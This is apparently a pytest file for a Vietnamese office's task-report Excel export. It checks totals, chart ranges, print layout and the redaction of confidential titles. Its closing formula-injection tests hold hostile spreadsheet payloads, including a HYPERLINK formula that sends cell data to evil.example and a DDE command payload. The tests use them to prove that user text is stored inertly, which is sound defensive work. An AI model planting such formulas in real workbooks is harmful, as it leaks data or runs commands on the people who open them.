"""The committee's workbook says what ``report_json`` says, and is ready to print and filter."""

from __future__ import annotations

import datetime as dt
import html
import io
import zipfile
from collections import Counter
from typing import Any

import openpyxl
import pytest

from data.deadlines import DeadlineKind
from data.taskview import CONFIDENTIAL_TITLE, TaskView
from jobs.calendar import WorkCalendar
from jobs.due import Due
from jobs.office_report import OfficeReport, TaskFacts, UnitRow, report_json
from jobs.plan import Policy
from jobs.report import (
    DATED_STATUSES,
    STATUS_LABELS,
    Counts,
    PartStatus,
    Report,
    build_report,
)
from jobs.workbook import (
    DETAIL_HEADERS,
    DETAIL_SHEET,
    HEADER_ROW,
    OVERDUE_COLUMN,
    SUMMARY_HEADERS,
    SUMMARY_SHEET,
    TOTAL_LABEL,
    report_workbook,
    summary_text,
)

K = DeadlineKind
START, END, AS_OF = dt.date(2025, 1, 1), dt.date(2025, 3, 31), dt.date(2025, 3, 15)
SECRET = "Rà soát hồ sơ nhân sự diện quy hoạch Ban Thường vụ"
UNITS = (
    UnitRow("BTG", "Ban Tuyên giáo"),
    UnitRow("BTC", "Ban Tổ chức"),
    UnitRow("UBKT", "Ủy ban Kiểm tra"),
    UnitRow("VP", "Văn phòng"),  # no parts in the period: still a row of zeros
)
UNIT_NAMES = {u.code: u.name for u in UNITS}
JSON_KEYS = [
    *(s.value for s in DATED_STATUSES),
    "no_deadline",
    "waiting",
    "review",
    "extended",
    "on_time_rate",
]


def _view(number: int, unit: str, kind: K = K.DUE, **kw: Any) -> TaskView:
    title = kw.pop("title", f"Nhiệm vụ số {number}")
    raw = kw.pop("raw", "trước ngày " + kw["due"].strftime("%d/%m/%Y") if "due" in kw else "")
    return TaskView(number, title, (unit,) if unit else (), kind, raw, **kw)


def _views() -> list[TaskView]:
    d = dt.date
    return [
        # 1: two owners, one on time and one late: the task is done late once.
        _view(1, "BTG", due=d(2025, 1, 20), done_on=d(2025, 1, 18)),
        _view(1, "BTC", due=d(2025, 1, 20), done_on=d(2025, 1, 24)),
        # 2: open; one owner got an extension and is still in term, the other is overdue.
        _view(2, "BTG", due=d(2025, 3, 28), extended=True, raw="trước ngày 10/02/2025"),
        _view(2, "UBKT", due=d(2025, 2, 10)),
        # 3: extended to a date still ahead; 4: confidential and overdue.
        _view(3, "BTC", due=d(2025, 3, 20), extended=True),
        _view(4, "UBKT", due=d(2025, 3, 3), title=SECRET, confidential=True),
        # 5: ongoing, 6: waiting, 7: needs review, 8: a unit the office does not list.
        _view(5, "BTG", K.ONGOING, raw="thường xuyên"),
        _view(6, "BTC", K.WAITING, raw="theo chỉ đạo của Ban Thường vụ"),
        _view(7, "UBKT", due=d(2025, 2, 1), needs_review=True, raw="quý I (?)"),
        _view(8, "CB1", due=d(2025, 2, 14), done_on=d(2025, 2, 14)),
        # 9: a monthly report: one item per occurrence in the period.
        _view(
            9,
            "BTC",
            K.RECURRING,
            raw="ngày 25 hằng tháng",
            rrule="FREQ=MONTHLY;BYMONTHDAY=25",
            anchor=d(2025, 1, 1),
            done_on=d(2025, 2, 27),
        ),
    ]


def _office(views: list[TaskView] | None = None) -> OfficeReport:
    views = _views() if views is None else views
    report = build_report(
        Due(WorkCalendar(), Policy()),
        views,
        START,
        END,
        AS_OF,
        units=[u.code for u in UNITS],
        completions={(9, "BTC"): [dt.date(2025, 1, 20), dt.date(2025, 2, 27)]},
    )
    facts = {
        v.number: TaskFacts(
            v.title,
            v.raw_deadline,
            v.kind.value,
            v.start,
            ("Văn phòng",) if v.number == 2 else (),
            v.confidential,
        )
        for v in views
    }
    return OfficeReport(report, UNITS, facts)


@pytest.fixture(scope="module")
def office() -> OfficeReport:
    return _office()


@pytest.fixture(scope="module")
def book(office: OfficeReport) -> Any:
    return openpyxl.load_workbook(io.BytesIO(report_workbook(office)))


def _row(sheet: Any, row: int, width: int) -> list[Any]:
    return [sheet.cell(row=row, column=c).value for c in range(1, width + 1)]


def _json_row(counts: dict[str, Any]) -> list[Any]:
    reported = counts["reported_this_quarter"], counts["long_tasks"]
    return [
        *(counts[key] for key in JSON_KEYS[:-1]),
        counts["awaiting_confirmation"],
        f"{reported[0]}/{reported[1]}" if reported[1] else None,
        counts["on_time_rate"],
    ]


def test_the_example_has_every_status(office: OfficeReport) -> None:
    statuses = {item.status for item in office.report.items}
    assert statuses == set(PartStatus)
    assert any(i.view.extended for i in office.report.items)


def test_summary_rows_are_the_json_units_and_total(office: OfficeReport, book: Any) -> None:
    sheet = book[SUMMARY_SHEET]
    width = len(SUMMARY_HEADERS)
    assert _row(sheet, HEADER_ROW, width) == list(SUMMARY_HEADERS)
    assert SUMMARY_HEADERS[1:5] == tuple(STATUS_LABELS[s] for s in DATED_STATUSES)
    data = report_json(office)
    for offset, unit in enumerate(data["units"], start=1):
        row = _row(sheet, HEADER_ROW + offset, width)
        assert row == [unit["unit"], *_json_row(unit)]
    total_row = HEADER_ROW + len(data["units"]) + 1
    assert _row(sheet, total_row, width) == [TOTAL_LABEL, *_json_row(data["total"])]
    # Office units first (even one without parts), then the unknown unit that has parts.
    names = [sheet.cell(row=HEADER_ROW + i, column=1).value for i in range(1, 6)]
    assert names == [*UNIT_NAMES.values(), "CB1"]
    # The total counts task 1 once (done late), not once per owner.
    assert data["total"]["done_late"] + data["total"]["done_on_time"] < sum(
        u["done_late"] + u["done_on_time"] for u in data["units"]
    )


def test_title_period_and_formats(book: Any) -> None:
    sheet = book[SUMMARY_SHEET]
    assert sheet["A1"].value
    assert "từ 01/01/2025 đến 31/03/2025" in sheet["A2"].value
    assert "15/03/2025" in sheet["A2"].value
    rate_cell = sheet.cell(row=HEADER_ROW + 1, column=len(SUMMARY_HEADERS))
    assert isinstance(rate_cell.value, int | float)
    assert "%" in rate_cell.number_format
    empty_rate = sheet.cell(row=HEADER_ROW + 4, column=len(SUMMARY_HEADERS))  # Văn phòng
    assert empty_rate.value is None
    overdue = sheet.cell(row=HEADER_ROW + 3, column=OVERDUE_COLUMN)  # Ủy ban Kiểm tra
    assert SUMMARY_HEADERS[OVERDUE_COLUMN - 1] == STATUS_LABELS[PartStatus.OVERDUE]
    assert overdue.value == 2 and overdue.font.b


def test_chart_shows_the_four_statuses_of_the_unit_rows(office: OfficeReport, book: Any) -> None:
    sheet = book[SUMMARY_SHEET]
    assert len(sheet._charts) == 1
    chart = sheet._charts[0]
    assert chart.tagname == "barChart"
    last = HEADER_ROW + len(report_json(office)["units"])
    quoted = f"'{SUMMARY_SHEET}'"
    refs = [s.val.numRef.f for s in chart.series]
    assert refs == [f"{quoted}!${c}${HEADER_ROW + 1}:${c}${last}" for c in "BCDE"]
    titles = [s.tx.strRef.f.replace("$", "") for s in chart.series]
    assert titles == [f"{quoted}!{c}{HEADER_ROW}" for c in "BCDE"]
    for series in chart.series:
        assert series.cat.strRef.f == f"{quoted}!$A${HEADER_ROW + 1}:$A${last}"


def test_detail_has_one_row_per_item(office: OfficeReport, book: Any) -> None:
    sheet = book[DETAIL_SHEET]
    width = len(DETAIL_HEADERS)
    assert _row(sheet, HEADER_ROW, width) == list(DETAIL_HEADERS)
    items = office.report.items
    assert sheet.max_row == HEADER_ROW + len(items)
    column = {name: i + 1 for i, name in enumerate(DETAIL_HEADERS)}
    for offset, item in enumerate(items, start=1):
        row = HEADER_ROW + offset

        def cell(name: str, row: int = row) -> Any:
            return sheet.cell(row=row, column=column[name])

        assert cell("Số").value == item.view.number
        assert cell("Nhiệm vụ").value == item.view.title  # the office's copy: full titles
        assert cell("Đơn vị").value == UNIT_NAMES.get(item.unit, item.unit)
        assert cell("Vai trò").value == "Chủ trì"
        assert cell("Thời hạn theo văn bản").value == (item.view.raw_deadline or None)
        assert cell("Trạng thái").value == STATUS_LABELS[item.status]
        for name, day in (("Hạn", item.due), ("Ngày hoàn thành", item.done_on)):
            if day is None:
                assert cell(name).value is None
            else:
                assert isinstance(cell(name).value, dt.datetime | dt.date)
                value = cell(name).value
                assert (value.date() if isinstance(value, dt.datetime) else value) == day
                assert cell(name).number_format.lower() == "dd/mm/yyyy"
        assert cell("Gia hạn").value == ("Có" if item.view.extended else None)
        late = cell("Số ngày trễ").value
        if item.status is PartStatus.DONE_LATE:
            assert item.done_on is not None and item.due is not None
            assert late == (item.done_on - item.due).days > 0
        elif item.status is PartStatus.OVERDUE:
            assert item.due is not None
            assert late == (AS_OF - item.due).days > 0
        else:
            assert late is None
        if item.view.number == 2:
            assert cell("Phối hợp").value == "Văn phòng"
    numbers = [sheet.cell(row=r, column=1).value for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
    assert numbers == [i.view.number for i in items]


@pytest.mark.parametrize("name", [SUMMARY_SHEET, DETAIL_SHEET])
def test_sheets_are_ready_to_filter_and_print(book: Any, name: str) -> None:
    sheet = book[name]
    assert sheet.freeze_panes is not None
    assert sheet[sheet.freeze_panes].row == HEADER_ROW + 1
    assert sheet.auto_filter.ref is not None
    assert sheet.auto_filter.ref.startswith(f"A{HEADER_ROW}:")
    assert sheet.page_setup.orientation == "landscape"
    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert int(sheet.page_setup.fitToWidth) == 1
    assert all(sheet.cell(row=HEADER_ROW, column=c).font.b for c in range(1, 5))


def _workbook_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return html.unescape("".join(archive.read(n).decode("utf-8") for n in archive.namelist()))


def test_confidential_titles_stay_out_of_a_copy_for_a_chat(office: OfficeReport) -> None:
    secret = SECRET
    assert secret in _workbook_text(report_workbook(office))  # the office's own copy
    data = report_workbook(office, confidential_titles=False)
    assert secret not in _workbook_text(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data))[DETAIL_SHEET]
    titles = [sheet.cell(row=r, column=2).value for r in range(HEADER_ROW + 1, sheet.max_row + 1)]
    assert CONFIDENTIAL_TITLE in titles
    assert "Nhiệm vụ số 1" in titles  # other titles unchanged
    assert SECRET not in summary_text(office)


def test_the_workbook_does_not_depend_on_the_clock(office: OfficeReport) -> None:
    book = openpyxl.load_workbook(io.BytesIO(report_workbook(office)))
    assert book.properties.modified == dt.datetime(2025, 3, 15)  # noqa: DTZ001 (Excel: naive)


def test_an_empty_report_still_makes_a_workbook() -> None:
    office = _office([])
    book = openpyxl.load_workbook(io.BytesIO(report_workbook(office)))
    summary = book[SUMMARY_SHEET]
    assert summary.cell(row=HEADER_ROW + len(UNITS) + 1, column=1).value == TOTAL_LABEL
    assert book[DETAIL_SHEET].max_row == HEADER_ROW
    assert "0 việc đến hạn" in summary_text(office)


def test_summary_text_names_the_total_and_the_worst_units(office: OfficeReport) -> None:
    text = summary_text(office)
    assert "01/01/2025" in text and "31/03/2025" in text and "15/03/2025" in text
    assert "Toàn đảng bộ" in text
    overdue_part = text.split("quá hạn nhất")[1].split("thấp nhất")[0]
    assert "Ủy ban Kiểm tra" in overdue_part  # the only unit with overdue parts
    assert "Ban Tổ chức" not in overdue_part
    lowest = text.split("thấp nhất")[1].splitlines()[1:]
    assert [line.split(":")[0] for line in lowest] == ["- Ủy ban Kiểm tra", "- Ban Tổ chức"]
    total = report_json(office)["total"]
    assert f"tỷ lệ đúng hạn {total['on_time_rate'] * 100:.1f}%".replace(".", ",") in text
    assert f"đã quá hạn {total['overdue']};" in text
    assert "Văn phòng" not in text  # nothing due: no rate, no overdue


def _many_units(n: int) -> OfficeReport:
    units = tuple(UnitRow(f"CB{i}", f"Chi bộ khu dân cư số {i} phường Hòa Bình") for i in range(n))
    counts = {
        u.code: Counts(
            Counter(
                {
                    PartStatus.DONE_ON_TIME: i % 7,
                    PartStatus.DONE_LATE: i % 3,
                    PartStatus.OVERDUE: i % 5,
                    PartStatus.IN_TERM: 1,
                }
            )
        )
        for i, u in enumerate(units)
    }
    total = Counts(Counter({PartStatus.DONE_ON_TIME: 9000, PartStatus.OVERDUE: 4000}))
    return OfficeReport(Report(START, END, AS_OF, (), counts, total), units, {})


@pytest.mark.parametrize("limit", [3500, 2000, 600, 300, 120, 40, 1])
def test_summary_text_fits_its_limit_for_5000_units(limit: int) -> None:
    office = _many_units(5000)
    text = summary_text(office, limit)
    assert 0 < len(text) <= limit
    if limit >= 600:
        assert "Toàn đảng bộ" in text
        assert "quá hạn nhất" in text


def test_summary_text_says_what_it_left_off() -> None:
    office = _many_units(50)
    full = summary_text(office, 100_000, top=40)
    short = summary_text(office, len(full) - 200, top=40)
    assert len(short) <= len(full) - 200
    assert "đơn vị khác" in short


# -- formula injection ----------------------------------------------------------------

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def _formulas(data: bytes) -> list[str]:
    """Every cell the workbook would compute, read from its sheets' XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        return [f for n in sheets for f in archive.read(n).decode().split("<f>")[1:]]


def test_text_from_users_is_never_a_live_formula() -> None:
    """A title, a unit's name, a progress note or the report's title that starts with
    = + - @ (or a tab/CR) is written as text, shown as typed (test fails before)."""
    from data.parts import LastUpdate

    views = [
        _view(i, "BTG", due=dt.date(2025, 2, 1) + dt.timedelta(days=i), title=text)
        for i, text in enumerate(HOSTILE, start=1)
    ]
    report = build_report(Due(WorkCalendar(), Policy()), views, START, END, AS_OF, units=["BTG"])
    facts = {
        v.number: TaskFacts(v.title, "=1+1", v.kind.value, v.start, ("=A1",), False) for v in views
    }
    updates = {(v.number, "BTG"): LastUpdate(AS_OF, 10, v.title) for v in views}
    office = OfficeReport(report, (UnitRow("BTG", "=2+2"),), facts, updates)
    data = report_workbook(office, title="=1+1")
    assert _formulas(data) == []
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    detail = workbook[DETAIL_SHEET]
    col = {h: i for i, h in enumerate(DETAIL_HEADERS, start=1)}
    rows = range(HEADER_ROW + 1, detail.max_row + 1)
    titles = [detail.cell(row=r, column=col["Nhiệm vụ"]) for r in rows]
    assert sorted(c.value for c in titles) == sorted(HOSTILE)  # shown as typed
    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
    notes = [detail.cell(row=r, column=col["Nội dung cập nhật"]).value for r in rows]
    assert sorted(notes) == sorted(HOSTILE)
    assert workbook[SUMMARY_SHEET].cell(row=HEADER_ROW + 1, column=1).value == "=2+2"


def test_control_characters_are_dropped_and_spaces_kept() -> None:
    """A title pasted with a control character (a vertical tab from Word) is written
    without it, not the end of the workbook; spaces around a note are kept as typed."""
    from data.parts import LastUpdate

    views = [_view(1, "BTG", due=dt.date(2025, 2, 1), title="Báo cáo\x0bquý I")]
    report = build_report(Due(WorkCalendar(), Policy()), views, START, END, AS_OF, units=["BTG"])
    facts = {1: TaskFacts("Báo cáo\x0bquý I", "Quý I", "due", None, (), False)}
    updates = {(1, "BTG"): LastUpdate(AS_OF, 10, "  đã trình  ")}
    office = OfficeReport(report, (UnitRow("BTG", "Ban Tuyên giáo"),), facts, updates)
    workbook = openpyxl.load_workbook(io.BytesIO(report_workbook(office)))
    detail = workbook[DETAIL_SHEET]
    col = {h: i for i, h in enumerate(DETAIL_HEADERS, start=1)}
    assert detail.cell(row=HEADER_ROW + 1, column=col["Nhiệm vụ"]).value == "Báo cáoquý I"
    note = detail.cell(row=HEADER_ROW + 1, column=col["Nội dung cập nhật"]).value
    assert note == "  đã trình  "
    due = detail.cell(row=HEADER_ROW + 1, column=col["Hạn"])
    assert due.value.date() == dt.date(2025, 2, 1) and due.number_format == "dd/mm/yyyy"


def test_markup_characters_read_back_as_typed() -> None:
    """Rows are written as XML text: a title or a note with ``& < >``, a line break
    (``\\r\\n``) or a quote reads back exactly as typed, never as markup."""
    from data.parts import LastUpdate

    typed = ['Báo cáo <b>quý I</b> & kế hoạch > 5 "mục"', "dòng 1\r\ndòng 2", "a&amp;b"]
    views = [
        _view(i, "BTG", due=dt.date(2025, 2, 1) + dt.timedelta(days=i), title=text)
        for i, text in enumerate(typed, start=1)
    ]
    report = build_report(Due(WorkCalendar(), Policy()), views, START, END, AS_OF, units=["BTG"])
    facts = {v.number: TaskFacts(v.title, "Quý I", "due", None, (), False) for v in views}
    updates = {(v.number, "BTG"): LastUpdate(AS_OF, 10, v.title) for v in views}
    office = OfficeReport(report, (UnitRow("BTG", "Ban <Tuyên> & giáo"),), facts, updates)
    workbook = openpyxl.load_workbook(io.BytesIO(report_workbook(office)))
    detail = workbook[DETAIL_SHEET]
    col = {h: i for i, h in enumerate(DETAIL_HEADERS, start=1)}
    rows = range(HEADER_ROW + 1, detail.max_row + 1)
    assert sorted(detail.cell(row=r, column=col["Nhiệm vụ"]).value for r in rows) == sorted(typed)
    notes = [detail.cell(row=r, column=col["Nội dung cập nhật"]).value for r in rows]
    assert sorted(notes) == sorted(typed)
    assert {detail.cell(row=r, column=col["Đơn vị"]).value for r in rows} == {"Ban <Tuyên> & giáo"}
    assert workbook[SUMMARY_SHEET].cell(row=HEADER_ROW + 1, column=1).value == "Ban <Tuyên> & giáo"
